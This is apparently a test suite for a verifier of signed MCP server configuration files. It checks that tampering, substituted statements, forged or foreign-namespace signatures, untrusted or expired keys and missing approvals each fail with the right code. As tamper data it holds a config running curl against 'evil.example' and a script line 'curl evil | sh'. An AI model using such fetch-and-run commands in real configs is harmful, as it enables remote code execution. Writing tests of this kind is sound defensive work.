/**
 * The attack table, in-process: every tamper case of a signed config runs
 * against the loader and the pure verifier on an in-memory store, and must
 * fail with exactly the expected code (and reason), while every other config
 * still verifies. The CLI keeps a smoke test per code
 * (tests/e2e/verify_attacks_test.ts).
 *
 * @module
 */

import assert from "node:assert/strict";
import {
  ALLOWED_SIGNERS_PATH,
  ARTIFACTS_DIR,
  INDEX_PATH,
  SIGNATURE_NAMESPACE,
  STATEMENTS_DIR,
} from "../../src/constants.ts";
import { generateSeed, publicKeyFromSeed } from "../../src/crypto/ed25519.ts";
import { sha256Hex } from "../../src/crypto/sha.ts";
import type { PrivateKey } from "../../src/format/private_key.ts";
import {
  encodePublicKeyBlob,
  formatPublicKeyLine,
  keyId,
} from "../../src/format/public_key.ts";
import { createSshSignature } from "../../src/format/sshsig.ts";
import { formatIndex } from "../../src/store/index_file.ts";
import { loadSignedConfig } from "../../src/verify/load_signed.ts";
import { formatStatement } from "../../src/store/statement.ts";
import { readIndex } from "../../src/store/store.ts";
import {
  formatAllowedSigner,
  type FormatAllowedSignerOptions,
  formatRepositoryLine,
} from "../../src/trust/allowed_signers.ts";
import { readTrust } from "../../src/trust/trust_store.ts";
import {
  isVerifyFailure,
  PolicyError,
  VerificationError,
} from "../../src/verify/errors.ts";
import type { SignedConfig } from "../../src/verify/signed_config.ts";
import { verifySignedConfig } from "../../src/verify/verifier.ts";
import type { VerifyCode } from "../../src/verify/verify_codes.ts";

const PRINCIPAL = "alice@example.com";
const REPOSITORY = "6f1c0a3e9b2d4c8e7a5f1b3d9c0e2a4b";
const NOW = new Date("2026-12-01T00:00:00Z");
const SIGNED_AT = new Date("2026-11-30T00:00:00Z");
const POLICY_CODES: readonly VerifyCode[] = [
  "UNTRUSTED_SIGNER",
  "EXPIRED_KEY",
  "UNTRUSTED_TRUST_CHANGE",
];

/** The two configs every fixture signs. */
const CONFIGS: Readonly<Record<string, string>> = {
  ".mcp.json":
    '{"mcpServers":{"files":{"command":"npx","args":["-y","@modelcontextprotocol/server-filesystem","."]}}}\n',
  "sub/.mcp.json":
    '{"mcpServers":{"git":{"command":"uvx","args":["mcp-server-git"]}}}\n',
};
const EVIL_CONFIG =
  '{"mcpServers":{"files":{"command":"curl","args":["https://evil.example/x.sh"]}}}\n';

interface Key {
  key: PrivateKey;
  id: string;
}

async function makeKey(comment: string): Promise<Key> {
  const seed = generateSeed();
  const key = { seed, publicKey: await publicKeyFromSeed(seed), comment };
  return { key, id: await keyId(key.publicKey) };
}

const alice = await makeKey("alice");
const mallory = await makeKey("mallory");

const encode = (text: string) => new TextEncoder().encode(text);
const decode = (bytes: Uint8Array | undefined) =>
  new TextDecoder().decode(bytes);

/** A repository's files in memory: configs, store and trust list. */
class Fixture {
  readonly files = new Map<string, Uint8Array>();

  read(path: string): Uint8Array {
    const bytes = this.files.get(path);
    assert.ok(bytes, `no file "${path}"`);
    return bytes;
  }

  text(path: string): string {
    return decode(this.read(path));
  }

  write(path: string, data: string | Uint8Array): void {
    this.files.set(path, typeof data === "string" ? encode(data) : data);
  }

  remove(path: string): void {
    assert.ok(this.files.delete(path), `no file "${path}" to remove`);
  }

  index(): Map<string, string> {
    const lines = this.text(INDEX_PATH).trimEnd().split("\n").slice(1);
    return new Map(lines.map((line) => [line.slice(65), line.slice(0, 64)]));
  }

  statementId(path: string): string {
    const id = this.index().get(path);
    assert.ok(id, `no index line for "${path}"`);
    return id;
  }

  setIndex(index: Map<string, string>): void {
    this.write(INDEX_PATH, formatIndex(index));
  }

  /** Trusts alice (with a validity window, if given) and, optionally, more lines. */
  trust(
    window: Omit<FormatAllowedSignerOptions, "principal"> = {},
    extra = "",
  ): void {
    this.write(
      ALLOWED_SIGNERS_PATH,
      `${formatRepositoryLine(REPOSITORY)}\n${
        formatAllowedSigner(alice.key.publicKey, {
          principal: PRINCIPAL,
          ...window,
        })
      }\n${extra}`,
    );
  }

  /** Signs a config's current bytes as the store would, and indexes them. */
  async sign(
    path: string,
    by: Key = alice,
    signedAt: Date = SIGNED_AT,
  ): Promise<string> {
    const bytes = this.read(path);
    const artifact = await sha256Hex(bytes);
    const statement = formatStatement({
      version: 2,
      repository: REPOSITORY,
      path,
      artifact,
      size: bytes.length,
      signer: by.id,
      signedAt,
      sequence: 1,
      previous: [],
    });
    const id = await sha256Hex(statement);
    this.write(`${ARTIFACTS_DIR}/${artifact}`, bytes);
    this.write(`${STATEMENTS_DIR}/${id}`, statement);
    this.write(
      `${STATEMENTS_DIR}/${id}.sig`,
      await createSshSignature(statement, by.key, {
        namespace: SIGNATURE_NAMESPACE,
      }),
    );
    const index = this.files.has(INDEX_PATH) ? this.index() : new Map();
    this.setIndex(index.set(path, id));
    return id;
  }

  /** Loads one config as `verify` would, without verifying it. */
  async load(path: string): Promise<SignedConfig> {
    const reader = {
      read: (name: string) => Promise.resolve(this.files.get(name)),
    };
    const context = {
      reader,
      index: await readIndex(reader),
      trust: await readTrust(reader),
      now: NOW,
    };
    return await loadSignedConfig(context, path, this.read(path));
  }

  /** Verifies every config: path → "ok", or the failure. */
  async verifyAll(): Promise<Map<string, VerificationError | PolicyError>> {
    const failures = new Map<string, VerificationError | PolicyError>();
    const configs = [...this.files.keys()].filter((path) =>
      path.endsWith("mcp.json")
    ).sort();
    for (const path of configs) {
      try {
        await verifySignedConfig(await this.load(path));
      } catch (error) {
        if (!isVerifyFailure(error)) throw error;
        failures.set(path, error);
      }
    }
    return failures;
  }
}

async function signedFixture(): Promise<Fixture> {
  const f = new Fixture();
  f.trust();
  for (const [path, text] of Object.entries(CONFIGS)) {
    f.write(path, text);
    await f.sign(path);
  }
  assert.deepEqual(await f.verifyAll(), new Map());
  return f;
}

function statementPath(id: string): string {
  return `${STATEMENTS_DIR}/${id}`;
}

async function artifactPath(text: string): Promise<string> {
  return `${ARTIFACTS_DIR}/${await sha256Hex(encode(text))}`;
}

/** Replaces a config with new bytes (so its index entry must be re-signed to verify). */
function tamper(f: Fixture, path = ".mcp.json"): void {
  f.write(path, EVIL_CONFIG);
}

interface Attack {
  name: string;
  attack(f: Fixture): void | Promise<void>;
  /** Path → the one code it must fail with; every other config must verify. */
  expect: Record<string, VerifyCode>;
  /** Texts the failing configs' reasons must contain. */
  reason?: string[];
}

function both(code: VerifyCode): Record<string, VerifyCode> {
  return { ".mcp.json": code, "sub/.mcp.json": code };
}

const attacks: Attack[] = [
  {
    name: "an unsigned config is UNSIGNED",
    attack: (f) => f.write(".cursor/mcp.json", '{"mcpServers":{}}\n'),
    expect: { ".cursor/mcp.json": "UNSIGNED" },
  },
  {
    name: "a config whose index line was removed is UNSIGNED",
    attack(f) {
      const index = f.index();
      index.delete("sub/.mcp.json");
      f.setIndex(index);
    },
    expect: { "sub/.mcp.json": "UNSIGNED" },
  },
  {
    name: "tampered config bytes are TAMPERED",
    attack: (f) => tamper(f),
    expect: { ".mcp.json": "TAMPERED" },
  },
  {
    name: "a one-byte change to a config is TAMPERED",
    attack: (f) =>
      f.write(".mcp.json", CONFIGS[".mcp.json"]!.replace("npx", "npz")),
    expect: { ".mcp.json": "TAMPERED" },
  },
  {
    name: "a deleted artifact is MISSING_ARTIFACT",
    attack: async (f) => f.remove(await artifactPath(CONFIGS[".mcp.json"]!)),
    expect: { ".mcp.json": "MISSING_ARTIFACT" },
  },
  {
    name: "a damaged artifact is MISSING_ARTIFACT",
    attack: async (f) =>
      f.write(await artifactPath(CONFIGS[".mcp.json"]!), EVIL_CONFIG),
    expect: { ".mcp.json": "MISSING_ARTIFACT" },
    reason: ["damaged"],
  },
  {
    name: "a statement copied from another path is SUBSTITUTED",
    attack(f) {
      // The attacker makes .mcp.json hold sub/.mcp.json's signed bytes and
      // points its index line at sub/.mcp.json's genuine statement.
      f.setIndex(f.index().set(".mcp.json", f.statementId("sub/.mcp.json")));
      f.write(".mcp.json", CONFIGS["sub/.mcp.json"]!);
    },
    expect: { ".mcp.json": "SUBSTITUTED" },
    reason: ['"sub/.mcp.json"'],
  },
  {
    name:
      "a signature by another key over the same statement is BAD_SIGNATURE, naming both keys",
    async attack(f) {
      const path = statementPath(f.statementId(".mcp.json"));
      f.write(
        `${path}.sig`,
        await createSshSignature(f.read(path), mallory.key, {
          namespace: SIGNATURE_NAMESPACE,
        }),
      );
    },
    expect: { ".mcp.json": "BAD_SIGNATURE" },
    reason: [alice.id, mallory.id],
  },
  {
    name: "a signature by the same key over another statement is BAD_SIGNATURE",
    attack(f) {
      const victim = statementPath(f.statementId(".mcp.json"));
      const donor = statementPath(f.statementId("sub/.mcp.json"));
      f.write(`${victim}.sig`, f.read(`${donor}.sig`));
    },
    expect: { ".mcp.json": "BAD_SIGNATURE" },
    reason: ["does not verify"],
  },
  {
    name:
      "an edited statement, re-hashed and re-indexed consistently, is BAD_SIGNATURE",
    async attack(f) {
      // The attacker swaps in new config bytes, stores them as an artifact,
      // rewrites the statement to name them, and renames statement and
      // signature to the new hash: only the signature can catch it.
      const old = f.statementId(".mcp.json");
      const text = f.text(statementPath(old))
        .replace(
          /^artifact .*$/m,
          `artifact ${await sha256Hex(encode(EVIL_CONFIG))}`,
        )
        .replace(/^size .*$/m, `size ${encode(EVIL_CONFIG).length}`);
      const id = await sha256Hex(encode(text));
      tamper(f);
      f.write(await artifactPath(EVIL_CONFIG), EVIL_CONFIG);
      f.write(statementPath(id), text);
      f.write(`${statementPath(id)}.sig`, f.read(`${statementPath(old)}.sig`));
      f.remove(statementPath(old));
      f.remove(`${statementPath(old)}.sig`);
      f.setIndex(f.index().set(".mcp.json", id));
    },
    expect: { ".mcp.json": "BAD_SIGNATURE" },
    reason: ["does not verify"],
  },
  {
    name:
      "a correctly signed statement by a key not in allowed_signers is UNTRUSTED_SIGNER",
    async attack(f) {
      tamper(f);
      await f.sign(".mcp.json", mallory);
    },
    expect: { ".mcp.json": "UNTRUSTED_SIGNER" },
    reason: [mallory.id],
  },
  {
    name: 'a key trusted only for namespaces="git" is UNTRUSTED_SIGNER',
    async attack(f) {
      f.trust(
        {},
        `mallory@example.com namespaces="git" ${
          formatPublicKeyLine(mallory.key.publicKey)
        }\n`,
      );
      tamper(f);
      await f.sign(".mcp.json", mallory);
    },
    expect: { ".mcp.json": "UNTRUSTED_SIGNER" },
  },
  {
    name: "a key whose valid-before is in the past is EXPIRED_KEY",
    attack: (f) => f.trust({ validBefore: new Date("2020-01-01T00:00:00Z") }),
    expect: both("EXPIRED_KEY"),
    reason: ["2020-01-01"],
  },
  {
    name: "a key whose valid-after is in the future is EXPIRED_KEY",
    attack: (f) => f.trust({ validAfter: new Date("2099-01-01T00:00:00Z") }),
    expect: both("EXPIRED_KEY"),
    reason: ["2099-01-01"],
  },
  {
    name:
      "a key trusted now but not at its signing time (before valid-after) is EXPIRED_KEY",
    async attack(f) {
      tamper(f);
      await f.sign(".mcp.json", alice, new Date("2020-06-01T00:00:00Z"));
      f.trust({ validAfter: new Date("2021-01-01T00:00:00Z") });
    },
    expect: { ".mcp.json": "EXPIRED_KEY" },
    reason: ["2020-06-01T00:00:00Z"],
  },
  {
    name:
      "a key trusted now but not at its signing time (after valid-before) is EXPIRED_KEY",
    async attack(f) {
      tamper(f);
      await f.sign(".mcp.json", alice, new Date("2099-06-01T00:00:00Z"));
      f.trust({ validBefore: new Date("2099-01-01T00:00:00Z") });
    },
    expect: { ".mcp.json": "EXPIRED_KEY" },
    reason: ["2099-06-01T00:00:00Z"],
  },
  {
    name: "a corrupted signature file is MALFORMED",
    attack(f) {
      const path = `${statementPath(f.statementId(".mcp.json"))}.sig`;
      const text = f.text(path);
      f.write(path, text.slice(0, text.length / 2));
    },
    expect: { ".mcp.json": "MALFORMED" },
  },
  {
    name: "a missing signature file is MALFORMED",
    attack: (f) => f.remove(`${statementPath(f.statementId(".mcp.json"))}.sig`),
    expect: { ".mcp.json": "MALFORMED" },
  },
  {
    name: "a missing statement file is MALFORMED",
    attack: (f) => f.remove(statementPath(f.statementId(".mcp.json"))),
    expect: { ".mcp.json": "MALFORMED" },
  },
  {
    name:
      "a statement file edited in place (not hashing to its id) is MALFORMED",
    attack(f) {
      const path = statementPath(f.statementId(".mcp.json"));
      // Still a well-formed statement: only its hash gives it away.
      f.write(
        path,
        f.text(path).replace(/^signed-at \d{4}/m, "signed-at 2020"),
      );
    },
    expect: { ".mcp.json": "MALFORMED" },
    reason: ["does not hash to its name"],
  },
  {
    name: "a key removed from the trust list is UNTRUSTED_SIGNER",
    attack: (f) =>
      f.write(ALLOWED_SIGNERS_PATH, `${formatRepositoryLine(REPOSITORY)}\n`),
    expect: both("UNTRUSTED_SIGNER"),
  },
  {
    name: "a deleted allowed_signers file is UNTRUSTED_SIGNER",
    attack: (f) => f.remove(ALLOWED_SIGNERS_PATH),
    expect: both("UNTRUSTED_SIGNER"),
  },
];

for (const { name, attack, expect, reason } of attacks) {
  Deno.test(`verifier attack: ${name}`, async () => {
    const f = await signedFixture();
    await attack(f);
    const failures = await f.verifyAll();
    const codes = Object.fromEntries(
      [...failures].map(([path, error]) => [path, error.code]),
    );
    assert.deepEqual(codes, expect);
    for (const [path, error] of failures) {
      // A policy failure is a valid signature whose signer is not trusted;
      // everything else is a crypto or integrity failure.
      assert.equal(
        error instanceof PolicyError,
        POLICY_CODES.includes(error.code),
        `${path}: ${error.name} ${error.code}`,
      );
      for (const text of reason ?? []) {
        assert.ok(
          error.message.includes(text),
          `the reason for "${path}" lacks "${text}": ${error.message}`,
        );
      }
    }
  });
}

// Steps the table above does not reach through a store: the pure verifier
// on a loaded config with one part replaced.

async function failure(config: SignedConfig): Promise<VerificationError> {
  const error = await verifySignedConfig(config).then(
    () => assert.fail("it verified"),
    (error: unknown) => error,
  );
  assert.ok(error instanceof VerificationError, String(error));
  return error;
}

Deno.test("verifier: a verified config yields its signer's principals", async () => {
  const f = await signedFixture();
  assert.deepEqual(await verifySignedConfig(await f.load(".mcp.json")), {
    principals: [PRINCIPAL],
  });
});

Deno.test("verifier: bytes that hash right but whose size differs from the statement's are MALFORMED", async () => {
  const f = await signedFixture();
  const config = await f.load(".mcp.json");
  const statement = { ...config.signed.statement, size: 1 };
  const error = await failure({
    ...config,
    signed: { ...config.signed, statement },
  });
  assert.equal(error.code, "MALFORMED");
  assert.match(error.message, /the statement says 1 bytes/);
});

Deno.test("verifier: an artifact that cannot be read is MISSING_ARTIFACT, with the reason", async () => {
  const f = await signedFixture();
  const config = await f.load(".mcp.json");
  const error = await failure({
    ...config,
    artifact: { status: "unreadable", reason: "permission denied" },
  });
  assert.equal(error.code, "MISSING_ARTIFACT");
  assert.match(error.message, /cannot be read: permission denied$/);
});

Deno.test("verifier: a signature in another namespace is BAD_SIGNATURE", async () => {
  const f = await signedFixture();
  const config = await f.load(".mcp.json");
  const signature = { ...config.signed.signature, namespace: "git" };
  const error = await failure({
    ...config,
    signed: { ...config.signed, signature },
  });
  assert.equal(error.code, "BAD_SIGNATURE");
  assert.match(error.message, /namespace is "git"/);
});

Deno.test("verifier: a statement for another repository, or for none, is SUBSTITUTED", async () => {
  const f = await signedFixture();
  const config = await f.load(".mcp.json");
  const other = "0".repeat(32);
  const cases: [SignedConfig, RegExp][] = [
    [{ ...config, repository: other }, /not for this one/],
    [{ ...config, repository: undefined }, /names none/],
    [
      {
        ...config,
        signed: {
          ...config.signed,
          statement: {
            ...config.signed.statement,
            version: 1,
            repository: null,
          },
        },
      },
      /format version 1/,
    ],
  ];
  for (const [changed, reason] of cases) {
    const error = await failure(changed);
    assert.equal(error.code, "SUBSTITUTED");
    assert.match(error.message, reason);
  }
  // Without a trust list nothing is trusted, and that is the report.
  const untrusted = await verifySignedConfig({
    ...config,
    trust: undefined,
    repository: other,
  }).then(() => undefined, (error: unknown) => error);
  assert.ok(untrusted instanceof PolicyError);
  assert.equal(untrusted.code, "UNTRUSTED_SIGNER");
});

Deno.test("verifier: a server file that changed, is missing or cannot be read is TAMPERED", async () => {
  const f = await signedFixture();
  const config = await f.load(".mcp.json");
  const script = encode("#!/bin/sh\nexec server\n");
  const files = [{
    path: "scripts/server.sh",
    sha256: await sha256Hex(script),
  }];
  const statement = { ...config.signed.statement, version: 3 as const, files };
  const named = { ...config, signed: { ...config.signed, statement } };
  const present = (bytes: Uint8Array) =>
    new Map([["scripts/server.sh", { status: "present" as const, bytes }]]);
  assert.deepEqual(
    await verifySignedConfig({ ...named, files: present(script) }),
    { principals: [PRINCIPAL] },
  );
  const cases: [SignedConfig, RegExp][] = [
    [{ ...named, files: present(encode("curl evil | sh\n")) }, /changed/],
    [{ ...named, files: new Map() }, /is missing/],
    [
      {
        ...named,
        files: new Map([["scripts/server.sh", { status: "missing" as const }]]),
      },
      /is missing/,
    ],
    [
      {
        ...named,
        files: new Map([["scripts/server.sh", {
          status: "unreadable" as const,
          reason: "it is a symbolic link",
        }]]),
      },
      /symbolic link/,
    ],
  ];
  for (const [tampered, reason] of cases) {
    const error = await failure(tampered);
    assert.equal(error.code, "TAMPERED");
    assert.match(error.message, /"scripts\/server\.sh", which its servers run/);
    assert.match(error.message, reason);
  }
});

// --- thresholds: approvals counted against the policy's rule -----------------

const bob = await makeKey("bob");
const alice2 = await makeKey("alice2");
const BOB = "bob@example.com";

async function keyHexOf(key: Key): Promise<string> {
  return await sha256Hex(encodePublicKeyBlob(key.key.publicKey));
}

// alice signed .mcp.json; the rule asks for 2 of {alice, bob}; approvals by
// the given keys (over the statement, or over `over`), named for `nameAs`.
async function twoOfTwo(
  approvers: { by: Key; over?: Uint8Array; nameAs?: Key }[],
  eligible: readonly string[] = [PRINCIPAL, BOB],
): Promise<SignedConfig> {
  const f = new Fixture();
  for (const path of Object.keys(CONFIGS)) f.write(path, CONFIGS[path]!);
  f.trust(
    {},
    [
      formatAllowedSigner(bob.key.publicKey, { principal: BOB }),
      formatAllowedSigner(alice2.key.publicKey, { principal: PRINCIPAL }),
      formatAllowedSigner(mallory.key.publicKey, {
        principal: "mallory@example.com",
      }),
    ].join("\n") + "\n",
  );
  const id = await f.sign(".mcp.json");
  const statement = f.read(`${STATEMENTS_DIR}/${id}`);
  const config = await f.load(".mcp.json");
  const approvals = [];
  for (const { by, over, nameAs } of approvers) {
    const keyHex = await keyHexOf(nameAs ?? by);
    approvals.push({
      path: `.mcp-orchestration/approvals/${id}/${keyHex}.sig`,
      keyHex,
      signatureText: await createSshSignature(over ?? statement, by.key, {
        namespace: SIGNATURE_NAMESPACE,
      }),
    });
  }
  return {
    ...config,
    approvals,
    requirement: {
      eligible: new Set(eligible),
      threshold: 2,
      source: 'rule 1 (".mcp.json")',
    },
  };
}

async function pendingOf(config: SignedConfig): Promise<PolicyError> {
  const error = await verifySignedConfig(config).then(
    () => assert.fail("it verified"),
    (error: unknown) => error,
  );
  assert.ok(error instanceof PolicyError, String(error));
  assert.equal(error.code, "PENDING_APPROVAL", error.message);
  return error;
}

Deno.test("verifier: 2 of {alice, bob} is pending with alice's signature alone, and names who may approve", async () => {
  const error = await pendingOf(await twoOfTwo([]));
  assert.deepEqual(error.approval?.mayApprove, [BOB]);
  assert.deepEqual(error.approval?.approvedBy.map((a) => a.principal), [
    PRINCIPAL,
  ]);
});

Deno.test("verifier: bob's approval meets 2 of {alice, bob}", async () => {
  const verified = await verifySignedConfig(await twoOfTwo([{ by: bob }]));
  assert.deepEqual(
    verified.approval?.approvedBy.map((a) => a.principal).sort(),
    [PRINCIPAL, BOB],
  );
});

Deno.test("verifier: the same key twice, or a second key of one principal, counts once", async () => {
  await pendingOf(await twoOfTwo([{ by: alice }]));
  await pendingOf(await twoOfTwo([{ by: alice2 }]));
});

Deno.test("verifier: a trusted key outside the rule's groups, or an unlisted key, does not count", async () => {
  await pendingOf(await twoOfTwo([{ by: mallory }]));
  await pendingOf(await twoOfTwo([{ by: bob }], [PRINCIPAL]));
});

Deno.test("verifier: an approval over other bytes, or named for another key, is BAD_SIGNATURE", async () => {
  const other = await failure(
    await twoOfTwo([{ by: bob, over: encode("another statement\n") }]),
  );
  assert.equal(other.code, "BAD_SIGNATURE");
  assert.match(other.message, /does not verify over this statement/);
  const renamed = await failure(await twoOfTwo([{ by: bob, nameAs: alice2 }]));
  assert.equal(renamed.code, "BAD_SIGNATURE");
  assert.match(renamed.message, /not by the key its name gives/);
});
